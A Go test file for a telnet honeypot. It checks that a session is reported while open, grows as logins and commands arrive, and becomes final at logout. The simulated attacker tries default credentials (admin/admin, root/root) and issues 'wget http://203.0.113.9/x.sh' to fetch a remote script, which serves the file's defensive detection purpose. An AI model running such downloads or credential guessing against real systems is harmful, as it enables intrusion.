package telnet

import (
	"slices"
	"strings"
	"testing"
	"time"

	"honeysens/app/honeypot"
	"honeysens/app/honeypot/hptest"
	"honeysens/app/model"
)

// TestSessionReportedWhileOpen: a telnet session is reported soon after the client's first
// bytes, grows with its logins and commands, and is final at logout.
func TestSessionReportedWhileOpen(t *testing.T) {
	s := New(Config{Listen: "127.0.0.1:0", LoginRetries: 5}, honeypot.Limits{}, nil)
	s.delay = 0
	s.Timing = honeypot.SessionTiming{First: 100 * time.Millisecond, Every: 200 * time.Millisecond, Slow: 200 * time.Millisecond,
		SlowAfter: 100, Keepalive: time.Minute}
	rec := hptest.NewRecorder()
	if err := s.Start(rec); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Stop)
	c := dial(t, s.Addr().String())
	c.until("login: ")
	c.send("admin\r\n")
	c.until("Password: ")
	c.send("admin\r\n")
	c.until("login: ")
	first := rec.WaitReport(t, eventWait, "the first report", func(*model.Event) bool { return true })
	if !first.Ongoing || first.Revision != 1 || first.Session == "" || len(first.Packets) != 1 || !strings.HasPrefix(string(first.Packets[0].Payload), "admin") {
		t.Fatalf("first report %+v", first)
	}
	c.send("root\r\n")
	c.until("Password: ")
	c.send("root\r\n")
	c.until("# ")
	c.send("wget http://203.0.113.9/x.sh\r\n")
	c.until("# ")
	grown := rec.WaitReport(t, eventWait, "the command", func(e *model.Event) bool { return e.Ongoing && len(e.Commands) == 1 })
	if grown.Session != first.Session || grown.Revision <= first.Revision ||
		grown.Summary != "Telnet: login as root with password root after 1 failed attempt, 1 command, 1 download attempt" ||
		!slices.Equal(grown.Logins, []model.Login{{User: "admin", Password: "admin"}, {User: "root", Password: "root", Accepted: true}}) {
		t.Errorf("ongoing report %+v", grown)
	}
	if rec.Count() != 0 {
		t.Fatal("final before logout")
	}
	c.send("exit\r\n")
	c.until("logout\r\n")
	final := rec.Wait(t, 1, eventWait)
	if final.Ongoing || final.Session != first.Session || final.Revision <= grown.Revision ||
		!slices.Equal(final.Commands, []string{"wget http://203.0.113.9/x.sh", "exit"}) {
		t.Errorf("final %+v", final)
	}
	mustContain(t, "details", hptest.TypedDetails(final), "(logout)", "0 telnet negotiation: none (raw TCP client)")
}
